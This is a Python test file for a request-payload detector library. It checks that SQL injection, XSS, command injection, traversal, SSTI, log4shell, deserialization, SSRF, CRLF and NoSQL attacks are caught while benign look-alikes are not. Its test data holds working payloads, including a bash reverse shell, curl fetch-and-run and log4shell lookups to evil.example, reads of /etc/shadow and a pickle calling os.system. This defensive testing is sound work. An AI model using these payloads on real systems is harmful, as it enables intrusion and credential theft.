"""The injection and abuse detectors: attacks and evasions caught, look-alikes left alone."""

from __future__ import annotations

import base64
import gzip
import pickle
import threading

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guardrail_authz.payload.detect import DETECTORS, Hit, Inspector, inspector
from guardrail_authz.payload.detect.ssrf import classify_url, parse_ipv4_loose

ALL = frozenset(DETECTORS)
FIELD = "body.items[0].name"

ATTACKS: dict[str, tuple[str, ...]] = {
    "sqli": (
        "1' or '1'='1",
        "admin'--",
        "' OR 1=1 LIMIT 1 -- -",
        "-1 UNION ALL SELECT NULL,username,password FROM users--",
        "1; DROP TABLE accounts",
        "1' AND SLEEP(5)#",
        "1); WAITFOR DELAY '0:0:7'--",
        "x' AND 1=(SELECT COUNT(*) FROM information_schema.columns)--",
        "'||(SELECT CASE WHEN (2=2) THEN 'a' ELSE 'b' END FROM dual)||'",
        "1%27%20OR%20%271%27%3D%271",  # URL-encoded
        "1%2527%2520OR%25201%253D1--",  # double-encoded
        "1&#39; OR 1=1--",  # HTML entity
        "1' UN/**/ION SEL/**/ECT 1,2--",  # comment splitting
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",  # MySQL versioned comments
        "\uff07 OR 1=1--",  # fullwidth apostrophe
        "1'+OR+1=1--",  # '+' as space
    ),
    "xss": (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '" onmouseover="alert(document.cookie)',
        "javascript:alert(1)",
        "<iframe srcdoc='<b>x</b>'></iframe>",
        "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&lt;img src=x onerror=alert(1)&gt;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",  # fullwidth brackets
        "';alert(String.fromCharCode(88,83,83))//",
    ),
    "cmdi": (
        "; cat /etc/passwd",
        "| id",
        "127.0.0.1 && whoami",
        "`id`",
        "$(curl -s http://evil.example/x.sh)",
        ";${IFS}cat${IFS}/etc/shadow",
        "{cat,/etc/passwd}",
        "; c'a't /etc/hosts",  # quote splitting
        '; w"h"o"am"i',
        "%0aid",  # encoded newline
        "& cmd /c whoami",
        "| powershell -nop -enc SQBFAFgA",
        "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        ";/???/??t /???/p??s??",
    ),
    "traversal": (
        "../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//....//etc/hosts",
        "..%2f..%2f..%2fetc%2fpasswd",
        "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "..%c0%af..%c0%afetc/passwd",
        "/proc/self/environ",
        "C:\\Windows\\System32\\drivers\\etc\\hosts",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/shadow",
        "../../config/database.yml",
        "..\u2215..\u2215etc\u2215passwd",  # division slash
    ),
    "ssti": (
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{config.items()}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
        "${T(java.lang.Runtime).getRuntime().exec('id')}",
        '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "{{request|attr('application')}}",
        "%7B%7B7*7%7D%7D",
    ),
    "log4shell": (
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "Mozilla/5.0 ${jNdI:dns://evil.example}",
    ),
    "deserialization": (
        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
        'a:2:{i:0;s:1:"a";i:1;O:4:"Evil":0:{}}',
        "gASVJgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
        "cos\nsystem\n(S'id'\ntR.",
        "!!python/object/apply:os.system ['id']",
        "AAEAAAD/////AQAAAAAAAAAMAgAAAA==",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x/a"}',
        base64.b64encode(gzip.compress(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap")).decode(),
    ),
    "ssrf": (
        "http://127.0.0.1/admin",
        "http://localhost:8080/",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://[::1]/",
        "http://[::ffff:127.0.0.1]/",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://0177.0.0.1/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "file:///etc/passwd",
        "http://evil.example@127.0.0.1/",
        "http://127.0.0.1.nip.io/",
        "http://\u2460\u2461\u2466.0.0.1/",  # circled digits
        "https://example.com/redirect?to=http://169.254.169.254/",
        "127.0.0.1:6379",
    ),
    "crlf": (
        "%0d%0aSet-Cookie:%20session=evil",
        "en%0D%0ALocation:%20http://evil.example",
        "x\r\nSet-Cookie: a=b",
        "%E5%98%8A%E5%98%8DSet-Cookie:a=b",
        "%250d%250aSet-Cookie:a=b",
        "x%0d%0a%0d%0a<html>injected</html>",
        "user\r\n[INFO] admin logged in",
        "x\r\nSET pwned 1\r\n",
    ),
    "nosql": (
        '{"$ne": null}',
        '{"$gt": ""}',
        '{"$where": "sleep(5000)"}',
        "'; return true; var x='",
        "admin' || 'a'=='a",
        "username[$regex]=^adm",
        "db.users.drop()",
    ),
}

# Values that look like an attack to a careless rule; none of them may fire any detector.
BENIGN: dict[str, tuple[str, ...]] = {
    "sqli": (
        "O'Brien's order #4521 ships tomorrow",
        "Please select the best option and update me by Friday.",
        "Drop me a line when you're free; I'll update the table.",
        "Union Station, Denver",
        "I'd rate it 4 or 5 out of 5",
        "choose 'red' or 'blue'",
        "Don't -- ever -- do that",
        "3 < 5 and 5 > 2",
        "SELECT id, name FROM users WHERE active = 1",
        "'this' or 'that' -- which one is right?",  # a dash, not a comment
        "2024 -- what a year",
        "'Having' is a verb",
    ),
    "xss": (
        "<b>bold</b> and <i>italic</i>",
        '<p>Hello <a href="https://example.com">world</a></p>',
        '<p style="color: red">warning</p>',
        "a < b and c > d",
        "List<String> items",
        "JavaScript: The Good Parts",
        "5 &lt; 6 &amp;&amp; 7 &gt; 3",
        "the onload event fires after the images",
    ),
    "cmdi": (
        "Tom & Jerry; cat lovers unite",
        "Use `ls -la` to list the files",
        "the `id` field is required",
        "| id | name |\n|---|---|\n| 1 | Bob |",
        "I'm tired; sleep 8 hours tonight",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
        "R&D; Q&A at 3pm",
        "docker run -v $(pwd):/app image",
        "sudo apt-get update && sudo apt-get upgrade",
        "for f in $(ls); do echo $f; done",
    ),
    "traversal": (
        "../assets/logo.png",
        "docs/2024/q1/report.pdf",
        "C:\\Users\\Bob\\Documents\\report.docx",
        "See the notes in ./README.md",
        "/usr/local/bin/python3",
        "https://example.com/a/./b",
        "import cfg from '../config.json'",
    ),
    "ssti": (
        "Hello {{name}}, your order {{order.id}} shipped",
        "Price: ${price}",
        "{% if user %}Hi{% endif %}",
        "<%= user.name %>",
        "def __init__(self): pass",
        "Score: 7*7=49",
    ),
    "log4shell": ("${HOME}/bin", "Total: ${amount}", "$5 {each}"),
    "deserialization": (
        "rO0 is not a word",
        "O: 8 items",
        "a:2 ratio",
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
        "H4sI is the gzip magic in base64",
    ),
    "ssrf": (
        "https://www.example.com/products?id=5&sort=asc",
        "https://api.github.com/repos/org/repo",
        "ftp://ftp.example.com/pub/README",
        "mailto:support@example.com",
        "The dev server runs at http://localhost:3000",
        "0.0.0.0:8080",
        "10.0.0.7:5432",
        "3.14",
        "127.0.0.1",
    ),
    "crlf": (
        "Line one\r\nLine two",
        "Meeting notes:\nLocation: Room 4\nTime: 3pm",
        "Dear team,\n\nPlease find the report attached.\n\nRegards",
    ),
    "nosql": (
        "price is $5 or $6",
        "The $where operator is deprecated",
        '{"name": "O\'Brien", "qty": 2}',
        "user[name]=bob",
    ),
}


def _one(detector: str, payload: str) -> list[Hit]:
    return inspector(frozenset({detector})).scan([(FIELD, payload)])


@pytest.mark.parametrize(("detector", "payload"), [(d, p) for d, ps in ATTACKS.items() for p in ps])
def test_attack_is_caught_by_its_detector(detector: str, payload: str) -> None:
    hits = _one(detector, payload)
    assert [(h.detector, h.field) for h in hits] == [(detector, FIELD)]


@pytest.mark.parametrize(("detector", "payload"), [(d, p) for d, ps in ATTACKS.items() for p in ps])
def test_signature_names_the_rule_never_the_payload(detector: str, payload: str) -> None:
    (hit,) = inspector(ALL).scan([(FIELD, payload)])
    prefix, _, name = hit.signature.partition(".")
    assert prefix in DETECTORS or hit.signature.startswith("libinjection:")
    assert payload not in hit.signature
    assert len(hit.signature) <= 48
    if prefix in DETECTORS:
        assert prefix == hit.detector
        assert name
        assert name.replace("-", "").isalnum()


@pytest.mark.parametrize(("kind", "payload"), [(k, p) for k, ps in BENIGN.items() for p in ps])
def test_benign_look_alike_fires_nothing(kind: str, payload: str) -> None:
    assert inspector(ALL).scan([(FIELD, payload)]) == [], kind


def test_only_the_bad_values_are_reported_with_their_fields() -> None:
    items = [
        ("body.name", "Seamus O'Brien"),
        ("body.items[0].note", "1' OR '1'='1"),
        ("body.items[1].note", "two & a half"),
        ("query.next", "http://169.254.169.254/latest"),
        ("header.user-agent", "Mozilla/5.0 (X11; Linux x86_64)"),
        ("path[2]", "..%2f..%2f..%2fetc%2fpasswd"),
        ("body.bio", "Zoë Müller, café owner"),
    ]
    hits = inspector(ALL).scan(items)
    assert [(h.field, h.detector) for h in hits] == [
        ("body.items[0].note", "sqli"),
        ("query.next", "ssrf"),
        ("path[2]", "traversal"),
    ]


def test_one_hit_per_field_the_first_detector_in_order() -> None:
    # Both an SQL injection and a script tag: sqli comes first in DETECTORS.
    payload = "'><script>alert(1)</script>' OR 1=1--"
    assert [h.detector for h in inspector(ALL).scan([(FIELD, payload)])] == ["sqli"]
    assert [h.detector for h in _one("xss", payload)] == ["xss"]
    repeated = [("query.q", "<script>alert(1)</script>"), ("query.q", "1' OR '1'='1")]
    assert [(h.field, h.detector) for h in inspector(ALL).scan(repeated)] == [("query.q", "sqli")]


def test_only_enabled_detectors_run() -> None:
    xss_only = inspector(frozenset({"xss"}))
    assert xss_only.scan([(FIELD, "1' OR '1'='1")]) == []
    assert xss_only.scan_keys([(FIELD, "$ne")]) == []
    assert xss_only.scan_raw("body", b"\xac\xed\x00\x05sr\x00\x11java") == []
    assert xss_only.detectors == frozenset({"xss"})


def test_no_match_spans_two_values() -> None:
    halves = [
        ("body.a", "1 UNION"),
        ("body.b", "SELECT 1,2--"),
        ("body.c", "<scr"),
        ("body.d", "ipt>"),
    ]
    assert inspector(ALL).scan(halves) == []


def test_nul_inside_a_value_keeps_the_fields_right() -> None:
    items = [
        ("body.a", "a\x00b\x00c"),
        ("body.b", "fine"),
        ("body.c", "x\x00<script>alert(1)</script>"),
    ]
    assert [(h.field, h.detector) for h in inspector(ALL).scan(items)] == [("body.c", "xss")]
    assert _one("traversal", "/etc/passwd\x00.png") != []


def test_unknown_detector_is_rejected() -> None:
    with pytest.raises(ValueError, match="unknown detector"):
        inspector(frozenset({"sqli", "telepathy"}))


def test_one_inspector_per_set_is_cached() -> None:
    first = inspector(frozenset({"sqli", "xss"}))
    assert inspector(frozenset({"xss", "sqli"})) is first
    assert inspector(frozenset({"sqli"})) is not first
    assert isinstance(first, Inspector)


def test_empty_inputs_and_huge_values() -> None:
    insp = inspector(ALL)
    assert insp.scan([]) == []
    assert insp.scan([(FIELD, "")]) == []
    assert insp.scan_keys([]) == []
    assert insp.scan_raw("body", b"") == []
    huge = "lorem ipsum dolor sit amet, it's fine " * 30_000  # about 1 MB
    assert insp.scan([(FIELD, huge)]) == []
    assert [h.detector for h in insp.scan([(FIELD, huge + " <script>alert(1)</script>")])] == [
        "xss"
    ]
    bomb = "%25" * 100_000 + "/*" * 50_000 + "&#" * 50_000 + "${${" * 20_000
    insp.scan([(FIELD, bomb)])  # bounded decoding: returns, whatever it finds


def test_a_flood_of_matches_keeps_every_finding() -> None:
    # Tens of thousands of trigger matches switch to value-by-value single-match scanning:
    # the findings (and their fields) are the same, hidden attacks included.
    insp = inspector(ALL)
    flood = "<a %41 ' or " * 40
    items = [(f"body.v{i}", flood) for i in range(600)]
    items[123] = ("body.v123", flood + "<script>alert(1)</script>")
    items[456] = ("body.v456", flood + "; cat /etc/passwd")
    hits = insp.scan(items)
    assert [(h.field, h.detector) for h in hits] == [("body.v123", "xss"), ("body.v456", "cmdi")]
    single = [("body.big", "<a " * 20_000 + "${jndi:ldap://evil.example/a}")]
    assert [h.detector for h in insp.scan(single)] == ["log4shell"]


@pytest.mark.parametrize(
    ("key", "detector"),
    [
        ("$ne", "nosql"),
        ("$where", "nosql"),
        ("$regex", "nosql"),
        ("user[$ne]", "nosql"),
        ("password[ $gt ]", "nosql"),
        ("user[%24ne]", "nosql"),
        ("x\r\nSet-Cookie", "crlf"),
        ("a%0d%0ab", "crlf"),
    ],
)
def test_keys_with_operators_or_line_breaks(key: str, detector: str) -> None:
    assert inspector(ALL).scan_keys([("query", key)]) == [Hit(detector, "query", hit_sig(key))]


def hit_sig(key: str) -> str:
    """The signature scan_keys reports for a test key (the encodings are decoded first)."""
    if "\r" in key:
        return "crlf.header-injection"
    if "%0d" in key:
        return "crlf.encoded-newline"
    return "nosql.operator-param" if "[" in key else "nosql.operator-key"


@pytest.mark.parametrize(
    "key", ["name", "$schema", "$ref", "$id", "@type", "user[name]", "filter[status]", "__typename"]
)
def test_ordinary_keys_pass(key: str) -> None:
    assert inspector(ALL).scan_keys([("body", key)]) == []


@pytest.mark.parametrize(
    ("data", "signature"),
    [
        (b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap", "deserialization.java"),
        (pickle.dumps({"a": 1}, protocol=4), "deserialization.pickle"),
        (pickle.dumps([1, 2], protocol=2), "deserialization.pickle"),
        (b"cos\nsystem\n(S'id'\ntR.", "deserialization.pickle"),
        (b"\x04\x08o:\x0bObject\x00", "deserialization.ruby"),
        (
            b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00",
            "deserialization.dotnet",
        ),
        (gzip.compress(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"), "deserialization.java"),
        (b'O:8:"stdClass":0:{}', "deserialization.php"),
        (
            b"--xyz\r\nContent-Type: application/octet-stream\r\n\r\n\xac\xed\x00\x05sr",
            "deserialization.java",
        ),
    ],
)
def test_raw_serialized_streams(data: bytes, signature: str) -> None:
    assert inspector(ALL).scan_raw("body", data) == [Hit("deserialization", "body", signature)]


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
        b"%PDF-1.7\n" + bytes(range(256)),
        gzip.compress(b'{"hello": "world"}'),
        b'{"name": "O\'Brien"}',
        b"\x80\x02 not a pickle",
        b"H4sIAAAAAAAAA not gzip",
    ],
)
def test_raw_binary_without_objects_passes(data: bytes) -> None:
    assert inspector(ALL).scan_raw("body", data) == []


def test_raw_line_break_counts_outside_body_fields_only() -> None:
    value = "en\r\nX-Custom-Header: injected"
    insp = inspector(frozenset({"crlf"}))
    assert insp.scan([("header.accept-language", value)]) == [
        Hit("crlf", "header.accept-language", "crlf.header-injection")
    ]
    assert insp.scan([("body.note", value)]) == []


@pytest.mark.parametrize(
    ("url", "signature"),
    [
        ("http://127.0.0.1/", "ssrf.loopback"),
        ("http://LOCALHOST./", "ssrf.loopback"),
        ("http://0/", "ssrf.encoded-ip"),
        ("http://017700000001/", "ssrf.encoded-ip"),
        ("http://0x08080808/", "ssrf.encoded-ip"),
        ("http://0.0.0.0:80/", "ssrf.unspecified"),
        ("http://169.254.1.1/", "ssrf.link-local"),
        ("http://[fe80::1%25eth0]/", "ssrf.link-local"),
        ("http://[fd00:ec2::254]/latest", "ssrf.metadata"),
        ("http://100.100.100.200/", "ssrf.metadata"),
        ("http://192.168.1.1/", "ssrf.private"),
        ("http://[fd12::1]/", "ssrf.private"),
        ("http://[::ffff:a9fe:a9fe]/", "ssrf.metadata"),
        ("http://[64:ff9b::7f00:1]/", "ssrf.loopback"),
        ("http://kubernetes.default.svc/api", "ssrf.cluster-api"),
        ("http://127.0.0.1#@evil.example/", "ssrf.loopback"),
        ("http://evil.example#@127.0.0.1/", "ssrf.loopback"),
        ("http:/\\127.0.0.1/", "ssrf.loopback"),
        ("dict://example.com:11211/", "ssrf.scheme"),
        ("169.254.169.254", "ssrf.metadata"),
        ("https://example.com/", None),
        ("http://1.2.3.4/", None),
        ("ftp://ftp.example.com/", None),
        ("http://user:pass@example.com/", None),
        ("note: hello", None),
        ("0.5", None),
    ],
)
def test_url_classification(url: str, signature: str | None) -> None:
    assert classify_url(url) == signature


@pytest.mark.parametrize(
    ("host", "parsed"),
    [
        ("127.0.0.1", (0x7F000001, True)),
        ("127.1", (0x7F000001, False)),
        ("0x7f.0.0.1", (0x7F000001, False)),
        ("2130706433", (0x7F000001, False)),
        ("127.0.0.1.", (0x7F000001, True)),
        ("256.0.0.1", None),
        ("1.2.3.4.5", None),
        ("example.com", None),
        ("1_0.0.0.1", None),
    ],
)
def test_ipv4_the_way_url_parsers_read_it(host: str, parsed: tuple[int, bool] | None) -> None:
    assert parse_ipv4_loose(host) == parsed


def test_scans_from_many_threads_at_once() -> None:
    insp = inspector(ALL)
    items = [(f"body.v{i}", "1' OR '1'='1" if i % 7 == 0 else f"value {i}") for i in range(300)]
    expected = insp.scan(items)
    results: list[list[Hit]] = []

    def worker() -> None:
        for _ in range(20):
            results.append(insp.scan(items))

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(results) == 80
    assert all(r == expected for r in results)
    assert len(expected) == 43


def test_lone_surrogates_are_scanned_not_fatal() -> None:
    insp = inspector(ALL)
    items = [("body.a", "\ud800<script>alert(1)</script>"), ("body.b", "\udfff%27 or '1'='1")]
    assert [(h.field, h.detector) for h in insp.scan(items)] == [
        ("body.a", "xss"),
        ("body.b", "sqli"),
    ]
    assert insp.scan_keys([("body", "\ud800$ne")]) == []


_ANY_TEXT = st.text(st.characters(exclude_categories=()))  # surrogates and controls included


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.text(max_size=12), _ANY_TEXT), max_size=6), st.binary())
def test_random_input_never_raises(items: list[tuple[str, str]], raw: bytes) -> None:
    insp = inspector(ALL)
    for hit in insp.scan(items) + insp.scan_keys(items):
        assert hit.detector in DETECTORS
        assert hit.field in {f for f, _ in items}
    assert all(h.detector == "deserialization" for h in insp.scan_raw("body", raw))


@settings(max_examples=100, deadline=None)
@given(st.text())
def test_random_text_in_every_place(text: str) -> None:
    insp = inspector(ALL)
    insp.scan([("query.q", text)])
    insp.scan_keys([("query", text)])
    insp.scan_raw("body", text.encode())
